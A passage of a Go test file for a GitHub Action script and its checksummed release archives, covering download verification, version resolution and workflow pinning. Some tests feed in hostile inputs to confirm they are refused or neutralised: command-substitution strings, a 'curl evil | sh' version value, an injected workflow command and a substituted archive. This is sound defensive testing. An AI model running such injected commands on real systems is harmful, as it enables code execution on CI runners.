package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"gopkg.in/yaml.v3"
)

// The GitHub Action's script (scripts/action.sh, what action.yml runs) and
// the release archives it verifies (make dist), run here as a workflow runs
// them: faked GITHUB_*/RUNNER_* variables, the archive taken from a local
// directory (SECFLOW_BUDGET_DIST_DIR) or downloaded from a local server
// standing in for GitHub's release downloads.

const actionVersion = "v0.0.0-action"

// actionHost is the host platform as make dist names it, and as the runner
// names it in RUNNER_OS/RUNNER_ARCH.
func actionHost(t *testing.T) (goos, goarch, runnerOS, runnerArch string) {
	t.Helper()
	runnerOS = map[string]string{"linux": "Linux", "darwin": "macOS"}[runtime.GOOS]
	runnerArch = map[string]string{"amd64": "X64", "arm64": "ARM64"}[runtime.GOARCH]
	if runnerOS == "" || runnerArch == "" {
		t.Fatalf("no runner names for %s/%s", runtime.GOOS, runtime.GOARCH)
	}
	return runtime.GOOS, runtime.GOARCH, runnerOS, runnerArch
}

func actionArchiveName(t *testing.T, version string) string {
	goos, goarch, _, _ := actionHost(t)
	return "secflow-budget_" + version + "_" + goos + "_" + goarch + ".tar.gz"
}

// actionMakeDist runs make dist for the host platform only into dir.
func actionMakeDist(t *testing.T, dir, version string) {
	t.Helper()
	goos, goarch, _, _ := actionHost(t)
	cmd := exec.Command("make", "dist", "DIST_DIR="+dir, "DIST_PLATFORMS="+goos+"/"+goarch, "VERSION="+version, "COMMIT=abc1234")
	cmd.Dir = repo
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("make dist: %v\n%s", err, out)
	}
}

// actionCopyDist copies the dist directory src into a fresh one, for a test
// that changes it.
func actionCopyDist(t *testing.T, src string) string {
	t.Helper()
	dst := t.TempDir()
	entries, err := os.ReadDir(src)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		data, err := os.ReadFile(filepath.Join(src, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dst, e.Name()), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dst
}

type actionResult struct {
	result
	outputs map[string]string // what the script wrote to $GITHUB_OUTPUT
	temp    string            // RUNNER_TEMP
}

// actionScript runs scripts/action.sh with a runner's environment plus env,
// from the repository root (the workspace).
func actionScript(t *testing.T, env []string, args ...string) actionResult {
	t.Helper()
	_, _, runnerOS, runnerArch := actionHost(t)
	abs, err := filepath.Abs(repo)
	if err != nil {
		t.Fatal(err)
	}
	temp := t.TempDir()
	outFile := filepath.Join(temp, "github_output")
	summary := filepath.Join(temp, "step_summary")
	cmd := exec.Command("bash", append([]string{filepath.Join(abs, "scripts", "action.sh")}, args...)...)
	cmd.Dir = abs
	cmd.Env = append([]string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "LANG=C.UTF-8",
		"GITHUB_ACTIONS=true", "GITHUB_OUTPUT=" + outFile, "GITHUB_STEP_SUMMARY=" + summary,
		"GITHUB_WORKSPACE=" + abs, "RUNNER_OS=" + runnerOS, "RUNNER_ARCH=" + runnerArch,
		"RUNNER_TEMP=" + temp, "GOCACHE=" + actionGoEnv(t, "GOCACHE"), "GOPATH=" + actionGoEnv(t, "GOPATH"),
	}, env...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err = cmd.Run()
	code := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("running action.sh %v: %v", args, err)
	}
	r := actionResult{result: result{code, out.String(), errb.String()}, outputs: map[string]string{}, temp: temp}
	data, err := os.ReadFile(outFile)
	if err != nil && !errors.Is(err, os.ErrNotExist) {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSuffix(string(data), "\n"), "\n") {
		if k, v, ok := strings.Cut(line, "="); ok {
			if _, dup := r.outputs[k]; dup {
				t.Errorf("output %s written twice:\n%s", k, data)
			}
			r.outputs[k] = v
		}
	}
	return r
}

func actionGoEnv(t *testing.T, name string) string {
	t.Helper()
	out, err := exec.Command("go", "env", name).Output()
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(out))
}

func actionExpectOutputs(t *testing.T, r actionResult, want map[string]string) {
	t.Helper()
	if len(r.outputs) != len(want) {
		t.Errorf("outputs %v, want %v", r.outputs, want)
	}
	for k, v := range want {
		if r.outputs[k] != v {
			t.Errorf("output %s = %q, want %q (all: %v)\nstdout:\n%s\nstderr:\n%s", k, r.outputs[k], v, r.outputs, r.stdout, r.stderr)
		}
	}
}

// actionRelease runs the script's run step with a resolved release version
// and the archive from dist.
func actionRelease(t *testing.T, dist string, env ...string) actionResult {
	t.Helper()
	return actionScript(t, append([]string{"SECFLOW_VERSION=" + actionVersion, "SECFLOW_BUDGET_DIST_DIR=" + dist}, env...), "run")
}

type actionReport struct {
	Status   string `json:"status"`
	ExitCode int    `json:"exit_code"`
	Tool     struct {
		Version string `json:"version"`
	} `json:"tool"`
	Budgets []struct {
		Name   string `json:"name"`
		Status string `json:"status"`
	} `json:"budgets"`
}

func actionReadReport(t *testing.T, path string) actionReport {
	t.Helper()
	return readJSONFile[actionReport](t, path)
}

func actionSum(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	s := sha256.Sum256(data)
	return hex.EncodeToString(s[:])
}

// actionFakeArchive writes a well-formed archive under the real archive's
// name whose "secflow-budget" is a script creating marker: if the script
// ran an archive without verifying it, marker would exist.
func actionFakeArchive(t *testing.T, dist, marker string) {
	t.Helper()
	name := actionArchiveName(t, actionVersion)
	base := strings.TrimSuffix(name, ".tar.gz")
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	body := "#!/bin/sh\ntouch '" + marker + "'\nexit 0\n"
	for _, h := range []*tar.Header{
		{Name: base + "/", Typeflag: tar.TypeDir, Mode: 0o755},
		{Name: base + "/secflow-budget", Typeflag: tar.TypeReg, Mode: 0o755, Size: int64(len(body))},
	} {
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			tw.Write([]byte(body))
		}
	}
	tw.Close()
	gz.Close()
	if err := os.WriteFile(filepath.Join(dist, name), buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

func actionNoFile(t *testing.T, path string) {
	t.Helper()
	if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("%s exists (err %v): the binary ran", path, err)
	}
}

func TestActionScriptRunsTheVerifiedRelease(t *testing.T) {
	name := actionArchiveName(t, actionVersion)
	dist0 := t.TempDir()
	actionMakeDist(t, dist0, actionVersion)

	t.Run("degraded fails with outputs fail/1 and the JSON report", func(t *testing.T) {
		r := actionRelease(t, actionCopyDist(t, dist0), "INPUT_OFFLINE=testdata/snapshots/degraded")
		expectCode(t, r.result, 1)
		reportPath := filepath.Join(r.temp, "secflow-budget", "1", "report.json")
		actionExpectOutputs(t, r, map[string]string{"status": "fail", "exit-code": "1", "report": reportPath})
		rep := actionReadReport(t, reportPath)
		if rep.Status != "fail" || rep.ExitCode != 1 || rep.Tool.Version != actionVersion || len(rep.Budgets) != 17 {
			t.Errorf("report: status %s, exit %d, version %s, %d budgets; want fail, 1, %s (the archive's binary), 17", rep.Status, rep.ExitCode, rep.Tool.Version, len(rep.Budgets), actionVersion)
		}
		if !strings.Contains(r.stderr, "verified "+name+" (sha256 "+actionSum(t, filepath.Join(dist0, name))+")") {
			t.Errorf("stderr does not say the archive was verified:\n%s", r.stderr)
		}
		// The annotations, on stdout for the runner, and the console report.
		var annotated bool
		for _, line := range strings.Split(r.stdout, "\n") {
			if strings.HasPrefix(line, "::error ") && strings.Contains(line, "task-duration") && strings.Contains(line, "p99 769.7s > 600s") {
				annotated = true
			}
		}
		if !annotated || !strings.Contains(r.stdout, "❌ task-duration") {
			t.Errorf("stdout lacks the task-duration annotation or console line:\n%s", r.stdout)
		}
	})

	t.Run("healthy passes with outputs pass/0", func(t *testing.T) {
		r := actionRelease(t, actionCopyDist(t, dist0), "INPUT_OFFLINE=testdata/snapshots/healthy", "INPUT_CONFIG=budgets.yaml")
		expectCode(t, r.result, 0)
		reportPath := filepath.Join(r.temp, "secflow-budget", "1", "report.json")
		actionExpectOutputs(t, r, map[string]string{"status": "pass", "exit-code": "0", "report": reportPath})
		if rep := actionReadReport(t, reportPath); rep.Status != "pass" || rep.ExitCode != 0 || len(rep.Budgets) != 17 {
			t.Errorf("report: status %s, exit %d, %d budgets; want pass, 0, 17", rep.Status, rep.ExitCode, len(rep.Budgets))
		}
		if strings.Contains(r.stdout, "::error") {
			t.Errorf("error annotations on a passing run:\n%s", r.stdout)
		}
	})

	t.Run("two uses in one job keep both reports", func(t *testing.T) {
		// As CI's action job: degraded, then healthy, one RUNNER_TEMP.
		temp := t.TempDir()
		first := actionRelease(t, dist0, "RUNNER_TEMP="+temp, "INPUT_OFFLINE=testdata/snapshots/degraded")
		second := actionRelease(t, dist0, "RUNNER_TEMP="+temp, "INPUT_OFFLINE=testdata/snapshots/healthy")
		expectCode(t, first.result, 1)
		expectCode(t, second.result, 0)
		actionExpectOutputs(t, first, map[string]string{"status": "fail", "exit-code": "1", "report": filepath.Join(temp, "secflow-budget", "1", "report.json")})
		actionExpectOutputs(t, second, map[string]string{"status": "pass", "exit-code": "0", "report": filepath.Join(temp, "secflow-budget", "2", "report.json")})
		if rep := actionReadReport(t, first.outputs["report"]); rep.Status != "fail" {
			t.Errorf("the first report now says %s, want fail", rep.Status)
		}
	})

	t.Run("fail-on and args reach the check", func(t *testing.T) {
		// sandbox-failure-ratio only warns on the degraded snapshot: the run
		// warns and exits 0, unless warnings fail it.
		dist := actionCopyDist(t, dist0)
		r := actionRelease(t, dist, "INPUT_OFFLINE=testdata/snapshots/degraded", "INPUT_ARGS=--only\tsandbox-failure-ratio\n--no-emoji")
		expectCode(t, r.result, 0)
		actionExpectOutputs(t, r, map[string]string{"status": "warn", "exit-code": "0", "report": filepath.Join(r.temp, "secflow-budget", "1", "report.json")})
		rep := actionReadReport(t, r.outputs["report"])
		if len(rep.Budgets) != 1 || rep.Budgets[0].Name != "sandbox-failure-ratio" || rep.Budgets[0].Status != "warn" {
			t.Errorf("budgets %+v, want sandbox-failure-ratio: warn only", rep.Budgets)
		}
		if strings.Contains(r.stdout, "⚠️") {
			t.Errorf("--no-emoji of args not passed:\n%s", r.stdout)
		}
		r = actionRelease(t, dist, "INPUT_OFFLINE=testdata/snapshots/degraded", "INPUT_ARGS=--only sandbox-failure-ratio", "INPUT_FAIL_ON=warn")
		expectCode(t, r.result, 1)
		actionExpectOutputs(t, r, map[string]string{"status": "fail", "exit-code": "1", "report": filepath.Join(r.temp, "secflow-budget", "1", "report.json")})
	})

	t.Run("inputs are data not shell", func(t *testing.T) {
		marker := filepath.Join(t.TempDir(), "injected")
		r := actionRelease(t, dist0, "INPUT_OFFLINE=testdata/snapshots/healthy", "INPUT_ARGS=--skip `touch${IFS}"+marker+"`$(touch${IFS}"+marker+")")
		actionNoFile(t, marker)
		// The words reached the check as written: no budget has that name.
		expectCode(t, r.result, 2)
		if want := "error: --skip: no budget or tag named \"`touch${IFS}" + marker + "`$(touch${IFS}" + marker + ")\""; !strings.Contains(r.stderr, want) {
			t.Errorf("stderr lacks %s:\n%s", want, r.stderr)
		}
		r = actionRelease(t, dist0, "INPUT_OFFLINE=testdata/snapshots/healthy", "INPUT_CONFIG=budgets.yaml$(touch "+marker+")")
		actionNoFile(t, marker)
		// The config's name reached the check as written: a file not there.
		expectCode(t, r.result, 2)
		if !strings.Contains(r.stderr, "budgets.yaml$(touch "+marker+")") {
			t.Errorf("stderr does not name the literal config path:\n%s", r.stderr)
		}
		if r.outputs["status"] != "error" || r.outputs["exit-code"] != "2" {
			t.Errorf("outputs %v, want status error, exit-code 2", r.outputs)
		}
	})

	t.Run("a tampered archive is refused and never run", func(t *testing.T) {
		dist := actionCopyDist(t, dist0)
		path := filepath.Join(dist, name)
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		want := actionSum(t, path)
		data[len(data)/2] ^= 0x01
		os.WriteFile(path, data, 0o644)
		r := actionRelease(t, dist, "INPUT_OFFLINE=testdata/snapshots/healthy")
		expectCode(t, r.result, 3)
		wantLine := "::error title=secflow-budget::checksum mismatch for " + name + ": SHA256SUMS says " + want + ", the file has " + actionSum(t, path) + ": refusing to run it\n"
		if r.stdout != wantLine {
			t.Errorf("stdout %q\nwant   %q", r.stdout, wantLine)
		}
		actionExpectOutputs(t, r, map[string]string{"status": "error", "exit-code": "3", "report": ""})
		actionNoFile(t, filepath.Join(r.temp, "secflow-budget", "1", "report.json"))
		actionNoFile(t, filepath.Join(r.temp, "secflow-budget", "release", strings.TrimSuffix(name, ".tar.gz")))
	})

	t.Run("a substituted archive is refused and never run", func(t *testing.T) {
		dist := actionCopyDist(t, dist0)
		marker := filepath.Join(t.TempDir(), "ran")
		actionFakeArchive(t, dist, marker)
		r := actionRelease(t, dist, "INPUT_OFFLINE=testdata/snapshots/healthy")
		expectCode(t, r.result, 3)
		if !strings.HasPrefix(r.stdout, "::error title=secflow-budget::checksum mismatch for "+name+": ") {
			t.Errorf("stdout %q", r.stdout)
		}
		actionNoFile(t, marker)

		// The same archive, listed with its own hash, runs: the marker
		// above is absent because of the check, not because the fake
		// cannot run.
		os.WriteFile(filepath.Join(dist, "SHA256SUMS"), []byte(actionSum(t, filepath.Join(dist, name))+"  "+name+"\n"), 0o644)
		r = actionRelease(t, dist, "INPUT_OFFLINE=testdata/snapshots/healthy")
		expectCode(t, r.result, 0)
		if _, err := os.Stat(marker); err != nil {
			t.Errorf("a verified archive did not run: %v\nstdout:\n%s\nstderr:\n%s", err, r.stdout, r.stderr)
		}
		actionExpectOutputs(t, r, map[string]string{"status": "error", "exit-code": "0", "report": filepath.Join(r.temp, "secflow-budget", "1", "report.json")})
	})

	t.Run("an archive missing from SHA256SUMS is refused", func(t *testing.T) {
		dist := actionCopyDist(t, dist0)
		other := strings.Repeat("ab", 32) + "  secflow-budget_" + actionVersion + "_plan9_amd64.tar.gz\n"
		os.WriteFile(filepath.Join(dist, "SHA256SUMS"), []byte(other), 0o644)
		r := actionRelease(t, dist, "INPUT_OFFLINE=testdata/snapshots/healthy")
		expectCode(t, r.result, 3)
		wantLine := "::error title=secflow-budget::SHA256SUMS of " + actionVersion + " has no entry for " + name + ": refusing to run an unverified binary\n"
		if r.stdout != wantLine {
			t.Errorf("stdout %q\nwant   %q", r.stdout, wantLine)
		}
		actionExpectOutputs(t, r, map[string]string{"status": "error", "exit-code": "3", "report": ""})
		actionNoFile(t, filepath.Join(r.temp, "secflow-budget", "1", "report.json"))
	})

	t.Run("downloads the release and its SHA256SUMS from the server", func(t *testing.T) {
		dist := actionCopyDist(t, dist0)
		var mu sync.Mutex
		var got []string
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			got = append(got, r.URL.Path+" "+r.Header.Get("Authorization"))
			mu.Unlock()
			file, ok := strings.CutPrefix(r.URL.Path, "/secflow/secflow-budget/releases/download/"+actionVersion+"/")
			if !ok || strings.Contains(file, "/") {
				http.NotFound(w, r)
				return
			}
			http.ServeFile(w, r, filepath.Join(dist, file))
		}))
		defer srv.Close()
		r := actionScript(t, []string{"SECFLOW_VERSION=" + actionVersion, "GITHUB_SERVER_URL=" + srv.URL,
			"SECFLOW_ACTION_REPOSITORY=secflow/secflow-budget", "GITHUB_TOKEN=t0ken",
			"INPUT_OFFLINE=testdata/snapshots/healthy"}, "run")
		expectCode(t, r.result, 0)
		actionExpectOutputs(t, r, map[string]string{"status": "pass", "exit-code": "0", "report": filepath.Join(r.temp, "secflow-budget", "1", "report.json")})
		prefix := "/secflow/secflow-budget/releases/download/" + actionVersion + "/"
		// No token goes with the downloads, whatever the environment holds.
		want := []string{prefix + "SHA256SUMS ", prefix + name + " "}
		if strings.Join(got, "\n") != strings.Join(want, "\n") {
			t.Errorf("requests:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
		}

		// A release without this platform's archive: the download fails
		// with the URL named.
		r = actionScript(t, []string{"SECFLOW_VERSION=v9.9.9", "GITHUB_SERVER_URL=" + srv.URL,
			"SECFLOW_ACTION_REPOSITORY=secflow/secflow-budget", "INPUT_OFFLINE=testdata/snapshots/healthy"}, "run")
		expectCode(t, r.result, 3)
		wantLine := "::error title=secflow-budget::downloading " + srv.URL + "/secflow/secflow-budget/releases/download/v9.9.9/SHA256SUMS failed\n"
		if r.stdout != wantLine {
			t.Errorf("stdout %q\nwant   %q", r.stdout, wantLine)
		}
	})
}

// On a Windows runner the script takes the .zip and runs secflow-budget.exe
// from it. The archive here is a stand-in (a shell script named .exe that
// prints its arguments and writes a JSON report), so the zip path of the
// script and the arguments it passes are checked without cross-compiling.
func TestActionScriptTakesTheZipOnWindows(t *testing.T) {
	_, goarch, _, runnerArch := actionHost(t)
	name := "secflow-budget_" + actionVersion + "_windows_" + goarch + ".zip"
	base := strings.TrimSuffix(name, ".zip")
	body := "#!/bin/sh\n" +
		"for a in \"$@\"; do case \"$a\" in json=*) printf '{\\n  \"status\": \"fail\",\\n  \"exit_code\": 1\\n}\\n' > \"${a#json=}\" ;; esac; done\n" +
		"printf '<%s>' \"$@\"; echo\nexit 1\n"
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	h := &zip.FileHeader{Name: base + "/secflow-budget.exe", Method: zip.Deflate}
	h.SetMode(0o755)
	w, err := zw.CreateHeader(h)
	if err != nil {
		t.Fatal(err)
	}
	w.Write([]byte(body))
	zw.Close()
	dist := t.TempDir()
	os.WriteFile(filepath.Join(dist, name), buf.Bytes(), 0o644)
	os.WriteFile(filepath.Join(dist, "SHA256SUMS"), []byte(actionSum(t, filepath.Join(dist, name))+"  "+name+"\n"), 0o644)

	r := actionRelease(t, dist, "RUNNER_OS=Windows", "RUNNER_ARCH="+runnerArch,
		"INPUT_OFFLINE=snap shots/pr", "INPUT_CONFIG=ci/budgets.yaml", "INPUT_PROMETHEUS=http://prom:9090",
		"INPUT_LOKI=http://loki:3100", "INPUT_FAIL_ON=warn", "INPUT_ARGS= --only  performance\n--timeout 2m ")
	expectCode(t, r.result, 1)
	report := filepath.Join(r.temp, "secflow-budget", "1", "report.json")
	actionExpectOutputs(t, r, map[string]string{"status": "fail", "exit-code": "1", "report": report})
	want := "<check><--config><ci/budgets.yaml><--report><github=-><--report><json=" + report + "><--offline><snap shots/pr>" +
		"<--prometheus><http://prom:9090><--loki><http://loki:3100><--fail-on><warn><--only><performance><--timeout><2m>\n"
	if r.stdout != want {
		t.Errorf("arguments:\n%s\nwant:\n%s", r.stdout, want)
	}
	if !strings.Contains(r.stderr, "verified "+name+" (sha256 ") {
		t.Errorf("stderr: %s", r.stderr)
	}
}

func TestActionScriptResolvesTheVersion(t *testing.T) {
	for _, c := range []struct {
		input, ref      string
		version, source string
	}{
		{"", "v1.2.3", "v1.2.3", "false"},
		{"", "v1.2.3-rc.1", "v1.2.3-rc.1", "false"},
		{"", "v1", "source", "true"},
		{"", "v1.2", "source", "true"},
		{"", "main", "source", "true"},
		{"", "", "source", "true"},
		{"", "0123456789abcdef0123456789abcdef01234567", "source", "true"},
		{"v2.0.0", "v1.2.3", "v2.0.0", "false"},
		{"source", "v1.2.3", "source", "true"},
	} {
		r := actionScript(t, []string{"INPUT_VERSION=" + c.input, "SECFLOW_ACTION_REF=" + c.ref}, "resolve")
		expectCode(t, r.result, 0)
		actionExpectOutputs(t, r, map[string]string{"version": c.version, "source": c.source})
	}
	r := actionScript(t, []string{"INPUT_VERSION=v1; curl evil | sh"}, "resolve")
	expectCode(t, r.result, 2)
	if want := "::error title=secflow-budget::version: 'v1; curl evil | sh' is neither a release tag (v1.2.3) nor 'source'\n"; r.stdout != want {
		t.Errorf("stdout %q\nwant   %q", r.stdout, want)
	}
	if len(r.outputs) != 0 {
		t.Errorf("outputs %v for a refused version", r.outputs)
	}
	// A newline in an input quoted by an error stays inside that one
	// annotation: it cannot start a workflow command of its own.
	r = actionScript(t, []string{"INPUT_VERSION=v1\n::add-mask::%x\r"}, "resolve")
	expectCode(t, r.result, 2)
	if want := "::error title=secflow-budget::version: 'v1%0A::add-mask::%25x%0D' is neither a release tag (v1.2.3) nor 'source'\n"; r.stdout != want {
		t.Errorf("stdout %q\nwant   %q", r.stdout, want)
	}
}

func TestActionScriptBuildsFromSource(t *testing.T) {
	abs, err := filepath.Abs(repo)
	if err != nil {
		t.Fatal(err)
	}
	r := actionScript(t, []string{"SECFLOW_VERSION=source", "GITHUB_ACTION_PATH=" + abs, "INPUT_OFFLINE=testdata/snapshots/degraded"}, "run")
	expectCode(t, r.result, 1)
	reportPath := filepath.Join(r.temp, "secflow-budget", "1", "report.json")
	actionExpectOutputs(t, r, map[string]string{"status": "fail", "exit-code": "1", "report": reportPath})
	rep := actionReadReport(t, reportPath)
	describe, err := exec.Command("git", "-C", abs, "describe", "--tags", "--always", "--dirty").Output()
	if err != nil {
		t.Fatal(err)
	}
	if rep.Status != "fail" || rep.Tool.Version != strings.TrimSpace(string(describe)) {
		t.Errorf("report status %s, version %s; want fail, %s", rep.Status, rep.Tool.Version, describe)
	}
}

// The binary cannot be had: every way ends in one ::error line, exit 3 (2
// for a wrong input), status error, and no check run.
func TestActionScriptWithoutABinary(t *testing.T) {
	broken := t.TempDir()
	os.MkdirAll(filepath.Join(broken, "cmd", "secflow-budget"), 0o755)
	os.WriteFile(filepath.Join(broken, "go.mod"), []byte("module github.com/secflow/secflow-budget\n\ngo 1.26\n"), 0o644)
	os.WriteFile(filepath.Join(broken, "cmd", "secflow-budget", "main.go"), []byte("package main\n\nfunc main() { undefined() }\n"), 0o644)

	garbage := t.TempDir()
	name := actionArchiveName(t, actionVersion)
	os.WriteFile(filepath.Join(garbage, name), []byte("not a gzip stream"), 0o644)
	os.WriteFile(filepath.Join(garbage, "SHA256SUMS"), []byte(actionSum(t, filepath.Join(garbage, name))+"  "+name+"\n"), 0o644)

	for _, c := range []struct {
		what string
		env  []string
		code int
		line string
	}{
		{"a source that does not build", []string{"SECFLOW_VERSION=source", "GITHUB_ACTION_PATH=" + broken}, 3,
			"::error title=secflow-budget::building secflow-budget from " + broken + " failed (go build's errors are above)"},
		{"no checkout to build", []string{"SECFLOW_VERSION=source", "GITHUB_ACTION_PATH=" + t.TempDir() + "/none"}, 2,
			"::error title=secflow-budget::version: source needs the action's checkout (GITHUB_ACTION_PATH='"},
		{"a verified archive that does not unpack", []string{"SECFLOW_VERSION=" + actionVersion, "SECFLOW_BUDGET_DIST_DIR=" + garbage}, 3,
			"::error title=secflow-budget::unpacking " + name + " failed"},
		{"a runner with no archive", []string{"SECFLOW_VERSION=" + actionVersion, "SECFLOW_BUDGET_DIST_DIR=" + garbage, "RUNNER_ARCH=ARM"}, 2,
			"::error title=secflow-budget::runner architecture 'ARM' has no release archive (X64, ARM64); use version: source"},
	} {
		t.Run(c.what, func(t *testing.T) {
			r := actionScript(t, append(c.env, "INPUT_OFFLINE=testdata/snapshots/healthy"), "run")
			expectCode(t, r.result, c.code)
			if lines := strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n"); len(lines) != 1 || !strings.HasPrefix(lines[0], c.line) {
				t.Errorf("stdout %q\nwant one line starting %q", r.stdout, c.line)
			}
			actionExpectOutputs(t, r, map[string]string{"status": "error", "exit-code": strconv.Itoa(c.code), "report": ""})
		})
	}
}

// make dist twice gives byte-identical archives and SHA256SUMS; the
// archive holds the binary, stamped with the version, and README.md.
func TestActionDistReproducible(t *testing.T) {
	const version = "v0.0.0-repro"
	name := actionArchiveName(t, version)
	a, b := t.TempDir(), t.TempDir()
	actionMakeDist(t, a, version)
	actionMakeDist(t, b, version)
	sumsA, err := os.ReadFile(filepath.Join(a, "SHA256SUMS"))
	if err != nil {
		t.Fatal(err)
	}
	sumsB, err := os.ReadFile(filepath.Join(b, "SHA256SUMS"))
	if err != nil {
		t.Fatal(err)
	}
	if want := actionSum(t, filepath.Join(a, name)) + "  " + name + "\n"; string(sumsA) != want {
		t.Errorf("SHA256SUMS:\n%s\nwant:\n%s", sumsA, want)
	}
	if !bytes.Equal(sumsA, sumsB) {
		t.Errorf("two make dist runs gave different SHA256SUMS:\n%s\n%s", sumsA, sumsB)
	}
	for _, dir := range []string{a, b} {
		entries, _ := os.ReadDir(dir)
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		if strings.Join(names, " ") != "SHA256SUMS "+name {
			t.Errorf("%s holds %v, want SHA256SUMS and %s", dir, names, name)
		}
	}

	// The archive's entries, and its binary's version.
	f, err := os.Open(filepath.Join(a, name))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	gz, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(gz)
	base := strings.TrimSuffix(name, ".tar.gz")
	bin := filepath.Join(t.TempDir(), "secflow-budget")
	var got []string
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, h.Name+" "+os.FileMode(h.Mode).String())
		if h.Name == base+"/secflow-budget" {
			data, _ := io.ReadAll(tr)
			os.WriteFile(bin, data, 0o755)
		}
		if h.Name == base+"/README.md" {
			data, _ := io.ReadAll(tr)
			readme, _ := os.ReadFile(filepath.Join(repo, "README.md"))
			if !bytes.Equal(data, readme) {
				t.Errorf("the archive's README.md is not the repository's")
			}
		}
	}
	want := []string{base + "/ -rwxr-xr-x", base + "/README.md -rw-r--r--", base + "/secflow-budget -rwxr-xr-x"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("entries:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	out, err := exec.Command(bin, "--version").Output()
	if err != nil {
		t.Fatal(err)
	}
	if wantPrefix := "secflow-budget " + version + " (commit abc1234, "; !strings.HasPrefix(string(out), wantPrefix) || !strings.HasSuffix(string(out), runtime.GOOS+"/"+runtime.GOARCH+")\n") {
		t.Errorf("--version printed %q, want %q... %s/%s)", out, wantPrefix, runtime.GOOS, runtime.GOARCH)
	}
}

// actionYAML parses a YAML file of the repository into a node tree.
func actionYAML(t *testing.T, path string) *yaml.Node {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(repo, path))
	if err != nil {
		t.Fatal(err)
	}
	var doc yaml.Node
	if err := yaml.Unmarshal(data, &doc); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	if len(doc.Content) != 1 || doc.Content[0].Kind != yaml.MappingNode {
		t.Fatalf("%s: not a mapping", path)
	}
	return doc.Content[0]
}

// actionGet follows keys through mappings; nil when one is missing.
func actionGet(n *yaml.Node, keys ...string) *yaml.Node {
	for _, k := range keys {
		if n == nil || n.Kind != yaml.MappingNode {
			return nil
		}
		var next *yaml.Node
		for i := 0; i+1 < len(n.Content); i += 2 {
			if n.Content[i].Value == k {
				next = n.Content[i+1]
			}
		}
		n = next
	}
	return n
}

// actionKeys is a mapping's keys, in file order.
func actionKeys(n *yaml.Node) []string {
	var out []string
	if n != nil && n.Kind == yaml.MappingNode {
		for i := 0; i < len(n.Content); i += 2 {
			out = append(out, n.Content[i].Value)
		}
	}
	return out
}

// actionWalk calls f for every key/value pair of every mapping under n.
func actionWalk(n *yaml.Node, f func(key, value *yaml.Node)) {
	if n == nil {
		return
	}
	if n.Kind == yaml.MappingNode {
		for i := 0; i+1 < len(n.Content); i += 2 {
			f(n.Content[i], n.Content[i+1])
		}
	}
	for _, c := range n.Content {
		actionWalk(c, f)
	}
}

var (
	actionPinned     = regexp.MustCompile(`^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$`)
	actionTagComment = regexp.MustCompile(`^# v[0-9]+\.[0-9]+\.[0-9]+$`)
)

// The Action and the workflows parse; every action they use is pinned to a
// full commit SHA with its tag in a comment (or is this repository, ./);
// no run: script holds an expression (inputs reach scripts as env only);
// the token is read-only but where the release is made.
func TestActionWorkflowsArePinnedAndSafe(t *testing.T) {
	files := []string{"action.yml", ".github/workflows/ci.yml", ".github/workflows/release.yml"}
	docs := map[string]*yaml.Node{}
	for _, f := range files {
		doc := actionYAML(t, f)
		docs[f] = doc
		uses := 0
		actionWalk(doc, func(k, v *yaml.Node) {
			switch k.Value {
			case "uses":
				uses++
				if v.Value == "./" {
					return
				}
				if !actionPinned.MatchString(v.Value) || !actionTagComment.MatchString(v.LineComment) {
					t.Errorf("%s:%d: uses: %s %s: want owner/repo@<40-hex SHA> # vX.Y.Z", f, v.Line, v.Value, v.LineComment)
				}
			case "run":
				if strings.Contains(v.Value, "${{") {
					t.Errorf("%s:%d: an expression inside run: (pass it through env:)\n%s", f, v.Line, v.Value)
				}
				if strings.Contains(v.Value, "sudo") && !strings.Contains(v.Value, "apt-get install") {
					t.Errorf("%s:%d: sudo outside the package install step:\n%s", f, v.Line, v.Value)
				}
			case "go-version-file":
				if v.Value != "go.mod" && v.Value != "${{ github.action_path }}/go.mod" {
					t.Errorf("%s:%d: go-version-file %s", f, v.Line, v.Value)
				}
			}
		})
		if uses == 0 {
			t.Errorf("%s: no uses: found", f)
		}
	}

	action := docs["action.yml"]
	if got := actionGet(action, "runs", "using"); got == nil || got.Value != "composite" {
		t.Errorf("action.yml: runs.using %v, want composite", got)
	}
